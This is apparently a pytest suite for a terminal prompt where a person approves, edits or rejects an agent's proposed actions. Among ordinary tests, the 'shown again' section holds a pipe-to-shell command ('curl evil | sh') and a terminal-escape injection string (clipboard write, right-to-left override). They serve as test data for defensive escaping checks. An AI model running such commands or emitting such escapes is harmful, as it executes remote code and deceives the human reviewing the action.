"""Answering at the terminal: what is asked, what may be typed, and what the agent gets."""

from __future__ import annotations

import io
import json
import shlex
import signal
import sys
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from commands.running import QUIRKS, Run, Screen
from langwire.adapters.cli import Left, ask
from langwire.adapters.cli import asking as answer
from langwire.events import Action, Interrupt

APPROVED = {"type": "approve"}
EDITED = {"type": "edit", "edited_action": {"name": "send", "args": {"to": "Bob"}}}


@pytest.mark.parametrize("typed", ["Ann", "", "5", "true", "[1, 2]", '"5"'])
def test_without_a_schema_an_answer_is_the_text_that_was_typed(at_terminal: Run, typed: str) -> None:
    """As on the page and in the notebook."""
    done = at_terminal("asking", typed)
    assert done.code == 0
    assert "\nanswer: " in done.out
    assert f"got {typed!r}\n\n[complete]" in done.out


def answered(schema: Any, *lines: str, monkeypatch: pytest.MonkeyPatch) -> tuple[Any, str, str]:
    """Answer a question with this schema; return the answer, what was asked with, and what was said."""
    screen, prompts, typed = Screen(), list[str](), iter(lines)

    def read(prompt: str, begin: str) -> str:
        prompts.append(prompt)
        return next(typed)

    monkeypatch.setattr(sys, "stdout", screen)
    answers = ask([Interrupt(id="1", value="?", response_schema=schema)], read=read)
    return answers["1"], prompts[0], screen.getvalue()


COLOUR = {"$defs": {"Colour": {"enum": ["red", 5, True]}}, "$ref": "#/$defs/Colour"}
MAYBE = {"anyOf": [{"type": "integer"}, {"type": "null"}]}


@pytest.mark.parametrize(
    ("schema", "what", "typed", "answer"),
    [
        ({"type": "string"}, "", "5", "5"),
        ({"type": ["string", "null"]}, "", "", ""),
        ({"type": "integer"}, " (a whole number)", "5", 5),
        ({"type": "number"}, " (a number)", "5.5", 5.5),
        ({"type": "boolean"}, " (true or false)", "true", True),
        ({"type": "null"}, " (null)", "null", None),
        ({"type": "array"}, " (a JSON array)", "[1]", [1]),
        ({"type": "object"}, " (a JSON object)", '{"a": 1}', {"a": 1}),
        ({"type": ["integer", "string"]}, " (JSON)", '"5"', "5"),
        ({"type": "odd"}, " (JSON)", "5", 5),
        ({}, " (JSON)", "[1]", [1]),
        (MAYBE, " (a whole number)", "5", 5),
        (MAYBE, " (a whole number)", "", None),
        (MAYBE, " (a whole number)", "null", None),
        ({"anyOf": [{"type": "integer"}, {"type": "array"}]}, " (JSON)", "[5]", [5]),
        (COLOUR, " (one of red, 5, true)", "red", "red"),
        (COLOUR, " (one of red, 5, true)", "true", True),
        ({"const": "yes"}, " (one of yes)", "yes", "yes"),
        ({"$ref": "#"}, " (JSON)", "5", 5),
        ({"$ref": "#/nowhere/at/all"}, " (JSON)", "5", 5),
    ],
)
def test_with_a_schema_an_answer_is_what_that_asks_for(
    schema: Any, what: str, typed: str, answer: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    got, prompt, told = answered(schema, typed, monkeypatch=monkeypatch)
    assert (got, type(got), prompt, told) == (answer, type(answer), f"answer{what}: ", "")


@pytest.mark.parametrize(
    ("schema", "typed", "answer", "told"),
    [
        ({"type": "integer"}, ["five", "5.5", "true", "5"], 5, "expected a whole number"),
        ({"type": "number"}, ["true", "NaN", "", "5"], 5, "expected a number"),
        ({"type": "boolean"}, ["yes", "1", "true"], True, "expected true or false"),
        ({"type": "object"}, ["[" * 100_000, "[]", "{}"], {}, "expected a JSON object"),
        ({}, ["Ann", '"Ann"'], "Ann", "that is not JSON: "),
        (COLOUR, ["blue", "red"], "red", "blue came as an answer: expected one of red, 5, true"),
    ],
)
def test_what_a_schema_does_not_ask_for_is_asked_again(
    schema: Any, typed: list[str], answer: Any, told: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    got, _, said = answered(schema, *typed, monkeypatch=monkeypatch)
    assert got == answer
    assert said.count(told) == len(typed) - 1


def test_a_breakpoint_is_left_with_enter(at_terminal: Run) -> None:
    done = at_terminal("stopping", "")
    assert done.code == 0
    assert "press Enter to go on " in done.out
    assert "through" in done.out


def test_several_questions_are_told_and_then_asked_by_number(at_terminal: Run) -> None:
    """Parallel nodes ask in any order."""
    told = at_terminal("twice", "one", "two").out
    first, second = told.index("(1 of 2) answer"), told.index("(2 of 2) answer")
    assert max(told.index("?? first?"), told.index("?? second?")) < first < second
    assert second < min(told.index("got 'one'"), told.index("got 'two'"))


@pytest.mark.parametrize(
    ("typed", "decision"),
    [
        (["a"], APPROVED),
        (["Approve"], APPROVED),
        (["appr"], APPROVED),
        (["", "a"], APPROVED),
        (["e", '{"to": "Bob"}'], EDITED),
        (["e", "", "a"], APPROVED),
        (["e", "{", "[]", '{"to": "Bob"}'], EDITED),
        (["rej", ""], {"type": "reject"}),
        (["reject", "too late"], {"type": "reject", "message": "too late"}),
        (["res", "shorter"], {"type": "respond", "message": "shorter"}),
        (["res", "", "a"], APPROVED),
    ],
)
def test_each_decision_can_be_made(at_terminal: Run, typed: list[str], decision: Any) -> None:
    done = at_terminal("deciding", *typed)
    assert done.code == 0
    assert "send: [a]pprove / [e]dit / [rej]ect / [res]pond? " in done.out
    assert f"got { ({'decisions': [decision]})!r}" in done.out


@pytest.mark.parametrize(
    ("typed", "line"),
    [
        ("r", "expected one of approve, edit, reject, respond, or the letters in brackets\n"),
        ("approved", "expected one of approve"),
        ("yes", "expected one of approve"),
    ],
)
def test_an_unknown_decision_is_asked_again(at_terminal: Run, typed: str, line: str) -> None:
    done = at_terminal("deciding", typed, "a")
    assert done.code == 0
    assert line in done.out
    assert done.out.count("send: [a]pprove") == 2


@pytest.mark.parametrize(
    ("typed", "line"), [("{", "that is not JSON: "), ("[]", "expected a JSON object with the new arguments")]
)
def test_arguments_that_fit_nothing_are_asked_again(at_terminal: Run, typed: str, line: str) -> None:
    done = at_terminal("deciding", "e", typed, '{"to": "Bob"}')
    assert done.code == 0
    assert line in done.out


def test_only_allowed_decisions_are_offered_action_by_action(at_terminal: Run) -> None:
    done = at_terminal("two_actions", "e", "r", "no", "a")
    assert "(1 of 2) send: [a]pprove / [r]eject? " in done.out
    assert "expected one of approve, reject, or" in done.out
    assert "(2 of 2) send: [a]pprove / [e]dit / [rej]ect / [res]pond? " in done.out
    assert f"got { ({'decisions': [{'type': 'reject', 'message': 'no'}, APPROVED]})!r}" in done.out


@pytest.mark.parametrize(
    ("agent", "typed", "got"),
    [
        ("no_actions", [], "{'decisions': []}"),
        ("per_call", ["a"], "{'type': 'approve'}"),
        ("older", ["a"], "[{'type': 'accept', 'args': None}]"),
    ],
)
def test_every_shape_of_question_gets_an_answer_of_its_shape(
    at_terminal: Run, agent: str, typed: list[str], got: str
) -> None:
    done = at_terminal(agent, *typed)
    assert done.code == 0
    assert f"got {got}" in done.out


def test_who_leaves_at_the_end_of_input_leaves_the_question_open(at_terminal: Run) -> None:
    done = at_terminal("asking", arguments=("hi", "--thread", "thread-8"))
    assert done.code == 2
    assert done.out.endswith("answer: \n")
    assert done.lines[-1].startswith("langwire: left waiting: give --db FILE")


def test_a_file_keeps_the_question_for_the_next_time(at_terminal: Run, run: Run, tmp_path: Path) -> None:
    kept = ("--thread", "thread-8", "--db", str(tmp_path / "chat.db"))
    left = at_terminal("asking", arguments=("hi", *kept))
    assert left.code == 2
    assert left.lines[-1].endswith(f"quirks.py:asking {' '.join(kept)} asks again")
    waits = run("run", f"{QUIRKS}:asking", "hello?", *kept)
    assert (waits.code, waits.out) == (2, "")
    assert waits.lines[-1] == (
        "langwire: thread thread-8 waits for an answer: run it without a message, in a terminal, to give one"
    )
    answered = at_terminal("asking", "Ann", arguments=kept)
    assert answered.code == 0
    assert answered.out.startswith("?? Your name?\n")
    assert "got 'Ann'" in answered.out
    nothing_open = at_terminal("asking", "Bob", arguments=kept)
    assert (nothing_open.code, "got" in nothing_open.out) == (0, False)


def test_a_file_that_is_none_is_one_line(run: Run, tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("these are notes, " * 100)
    done = run("run", f"{QUIRKS}:echo", "hi", "--db", str(tmp_path / "notes.txt"))
    assert (done.code, done.out) == (1, "")
    assert "notes.txt" in done.lines[-1]


def test_a_new_thread_in_a_file_is_named(run: Run, tmp_path: Path) -> None:
    db = str(tmp_path / "chat.db")
    done = run("run", f"{QUIRKS}:echo", "one", "--db", db)
    assert done.code == 0
    thread = done.lines[-1].removeprefix("langwire: this was thread ").partition(":")[0]
    assert run("run", f"{QUIRKS}:echo", "two", "--thread", thread, "--db", db).out.startswith(
        "you said ['one', \"you said ['one']\", 'two']"
    )


def test_a_thread_without_a_message_asks_its_open_question_again(at_terminal: Run) -> None:
    at_terminal("asking", arguments=("hi", "--thread", "thread-9"))
    done = at_terminal("asking", "Ann", arguments=("--thread", "thread-9"))
    assert done.code == 0
    assert "got 'Ann'" in done.out


def test_ctrl_c_at_a_prompt_ends_its_line_and_the_program(at_terminal: Run) -> None:
    done = at_terminal("asking", KeyboardInterrupt())
    assert done.code == 130
    assert done.out.endswith("answer: \n")
    assert done.lines[-1] == "langwire: stopped"


def test_a_line_that_is_no_text_is_asked_again(at_terminal: Run) -> None:
    done = at_terminal("asking", UnicodeDecodeError("ascii", b"\xfc", 0, 1, "ordinal not in range"), "Ann")
    assert done.code == 0
    assert "expected text in " in done.out
    assert "got 'Ann'" in done.out


@pytest.mark.parametrize(
    ("encoding", "text"),
    [("utf-8", r'{"to": "zoë\u202e", "n": 1}'), ("ascii", r'{"to": "zo\u00eb\u202e", "n": 1}')],
)
def test_the_line_to_edit_begins_with_the_arguments_there_are(
    encoding: str, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What a terminal would obey or cannot show is escaped, and reads back as it was."""
    begun: list[str] = []
    lines = iter(["e", text])
    screen = io.TextIOWrapper(io.BytesIO(), encoding=encoding)
    monkeypatch.setattr(sys, "stdout", screen)
    monkeypatch.setattr(answer, "_begin_with", begun.append)
    monkeypatch.setattr("builtins.input", lambda _: next(lines))
    args = {"to": "zoë\u202e", "n": 1}
    question = Interrupt(id="1", kind="approval_batched", actions=(Action(name="send", args=args),))
    (decision,) = answer.ask([question])["1"]
    assert begun == ["", text]
    assert decision.args == json.loads(text) == args


def test_without_line_editing_one_types_all_of_it(monkeypatch: pytest.MonkeyPatch, at_terminal: Run) -> None:
    monkeypatch.setattr(answer, "readline", None)
    assert at_terminal("deciding", "e", '{"to": "Bob"}').code == 0


def test_a_prompt_shows_a_name_that_cannot_steer_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = Screen()
    monkeypatch.setattr(sys, "stdout", screen)
    monkeypatch.setattr(sys, "stdin", io.StringIO("a\n"))
    answer.ask([Interrupt(id="1", kind="approval_batched", actions=(Action(name="send\x1b[31m\n"),))])
    assert screen.getvalue().startswith("send\\x1b[31m\\n: [a]pprove")


# ------------------------------------------------------------------ shown again


HOSTILE = "list files \x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b2J\u202e"


def test_a_question_mark_shows_all_that_is_asked_as_often_as_wanted(at_terminal: Run) -> None:
    """F-C2: every argument, whole; what looks harmless in front hides nothing."""
    done = at_terminal("deciding", "?", "?", "a")
    assert done.code == 0
    assert done.out.count('send {\n  "to": "zoë\\u202e",\n  "n": 0\n}\n') == 2
    assert done.out.count("send: [a]pprove") == 3


def test_every_argument_is_shown_and_no_character_steers_the_terminal(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """F-C1, F-C2, T-12: in the prompt, what is shown again, and the line to edit."""
    args = {"comment": HOSTILE, "cmd": "curl evil | sh", "more": ["x" * 5000, HOSTILE], "del": "\x7f"}
    action = Action(name=f"run{HOSTILE}", args=args, description=HOSTILE)
    screen, shown = Screen(), list[str]()
    lines = iter(["?", "e", "", "res", "", "a"])

    def read(prompt: str, begin: str) -> str:
        shown.extend((prompt, begin))
        return next(lines)

    monkeypatch.setattr(sys, "stdout", screen)
    monkeypatch.delenv("EDITOR", raising=False)
    monkeypatch.delenv("VISUAL", raising=False)
    ask([Interrupt(id="1", kind="approval_batched", actions=(action,))], read=read)
    told = screen.getvalue()
    assert "curl evil | sh" in told
    assert "x" * 5000 in told
    assert json.loads(shown[5]) == args
    everything = told + "".join(shown)
    assert not [c for c in everything if c != "\n" and not c.isprintable()]


def test_a_free_question_and_a_breakpoint_are_shown_again_too(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = Screen()
    monkeypatch.setattr(sys, "stdout", screen)
    lines = iter(["?", "Ann", "?", " ?", "?", ""])
    questions = [
        Interrupt(id="1", value="Your name?"),
        Interrupt(id="2", value={"choose": [1, 2]}),
        Interrupt(id="3", kind="breakpoint", value="tools"),
    ]
    assert ask(questions, read=lambda prompt, begin: next(lines)) == {"1": "Ann", "2": "?"}
    assert screen.getvalue() == 'Your name?\n{\n  "choose": [\n    1,\n    2\n  ]\n}\ntools\n'


def test_who_reads_for_it_may_leave() -> None:
    def leave(prompt: str, begin: str) -> str:
        raise EOFError

    with pytest.raises(Left):
        ask([Interrupt(id="1", value="Your name?")], read=leave)


# ------------------------------------------------------------------ in an editor


Edit = Callable[..., tuple[Any, str, Path]]

EDITOR = """
import pathlib, sys
log, *texts = sys.argv[1:-1]
file = pathlib.Path(sys.argv[-1])
log = pathlib.Path(log)
opened = log.read_text().splitlines() if log.exists() else []
log.write_text("\\n".join([*opened, f"{file} {file.stat().st_mode & 0o777:o} {file.read_text()!r}"]))
text = texts[len(opened)]
if text.startswith("exit"):
    sys.exit(int(text.split()[1]))
if text != "keep":
    file.write_text(text)
"""


@pytest.fixture
def edited(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Edit:
    """Decide on an action with an editor that writes these texts, one each time, and then with these lines."""

    def edited(texts: list[str], *lines: str) -> tuple[Any, str, Path]:
        (tmp_path / "editor.py").write_text(EDITOR)
        command = [sys.executable, str(tmp_path / "editor.py"), str(tmp_path / "log"), *texts]
        monkeypatch.setenv("VISUAL", "")
        monkeypatch.setenv("EDITOR", shlex.join(command))
        return decided(lines), sys.stdout.getvalue(), tmp_path / "log"  # type: ignore[attr-defined]

    def decided(lines: tuple[str, ...]) -> Any:
        monkeypatch.setattr(sys, "stdout", Screen())
        monkeypatch.setattr(sys, "stdin", io.StringIO("".join(f"{line}\n" for line in ("e", *lines))))
        question = Interrupt(id="1", kind="approval_batched", actions=(Action(name="send", args={"to": "zoë\u202e"}),))
        return ask([question])["1"][0]

    return edited


def test_the_editor_opens_a_private_file_of_pretty_json_which_is_gone_afterwards(edited: Edit) -> None:
    decision, _, log = edited(['{"to": "Bob"}'])
    name, mode, text = log.read_text().split(" ", 2)
    assert (decision.type, decision.args) == ("edit", {"to": "Bob"})
    assert (mode, text) == ("600", repr('{\n  "to": "zoë\\u202e"\n}\n'))
    assert name.endswith(".json")
    assert not Path(name).exists()


def test_what_is_no_json_says_why_and_is_opened_again_as_it_is(edited: Edit) -> None:
    decision, told, log = edited(['{"to": ', '{"to": "Bob"}'], "")
    assert decision.args == {"to": "Bob"}
    assert "that is not JSON: " in told
    assert "Enter opens it again, anything else goes back: " in told
    assert log.read_text().splitlines()[1].endswith(repr('{"to": '))


def test_what_is_no_json_can_be_given_up(edited: Edit) -> None:
    decision, told, _ = edited(["[1]"], "b", "a")
    assert decision.type == "approve"
    assert "expected a JSON object with the new arguments" in told


@pytest.mark.parametrize("text", ["keep", "", " \n"])
def test_an_editor_that_changes_nothing_leads_back_to_the_choice(edited: Edit, text: str) -> None:
    decision, told, _ = edited([text], "a")
    assert decision.type == "approve"
    assert "nothing was changed\n" in told


def test_an_editor_that_fails_gives_way_to_a_line(edited: Edit) -> None:
    decision, told, log = edited(["exit 3"], '{"to": "Bob"}')
    assert decision.args == {"to": "Bob"}
    assert "ended with code 3: type a line instead\n" in told
    assert not Path(log.read_text().split()[0]).exists()


@pytest.mark.parametrize("command", ["/nowhere/at/all", "'"])
def test_an_editor_that_is_not_there_gives_way_to_a_line(
    command: str, monkeypatch: pytest.MonkeyPatch, at_terminal: Run
) -> None:
    monkeypatch.setattr(answer, "editor", lambda: command)
    done = at_terminal("deciding", "e", '{"to": "Bob"}')
    assert done.code == 0
    assert "does not open: " in done.out
    assert "'args': {'to': 'Bob'}" in done.out


def test_visual_comes_before_editor(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VISUAL", "fine")
    monkeypatch.setenv("EDITOR", "plain")
    assert answer.editor() == "fine"
    monkeypatch.delenv("VISUAL")
    assert answer.editor() == "plain"
    monkeypatch.delenv("EDITOR")
    assert answer.editor() is None


PRESSES_CTRL_C = "import os, signal, sys; os.kill(os.getppid(), signal.SIGINT); open(sys.argv[1], 'w').write('{}')"
SENDING = Interrupt(id="1", kind="approval_batched", actions=(Action(name="send", args={"n": 1}),))


def test_ctrl_c_in_an_editor_is_the_editors(monkeypatch: pytest.MonkeyPatch) -> None:
    """The terminal sends it to the program that waits for the editor as well."""
    before = signal.getsignal(signal.SIGINT)
    monkeypatch.setenv("VISUAL", shlex.join([sys.executable, "-c", PRESSES_CTRL_C]))
    assert ask([SENDING], read=lambda prompt, begin: "e")["1"][0].args == {}
    assert signal.getsignal(signal.SIGINT) is before


def test_an_editor_can_be_opened_from_any_thread(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VISUAL", shlex.join([sys.executable, "-c", "import sys; open(sys.argv[1], 'w').write('{}')"]))
    answers: list[Any] = []
    thread = threading.Thread(target=lambda: answers.append(ask([SENDING], read=lambda prompt, begin: "e")))
    thread.start()
    thread.join()
    assert answers[0]["1"][0].args == {}
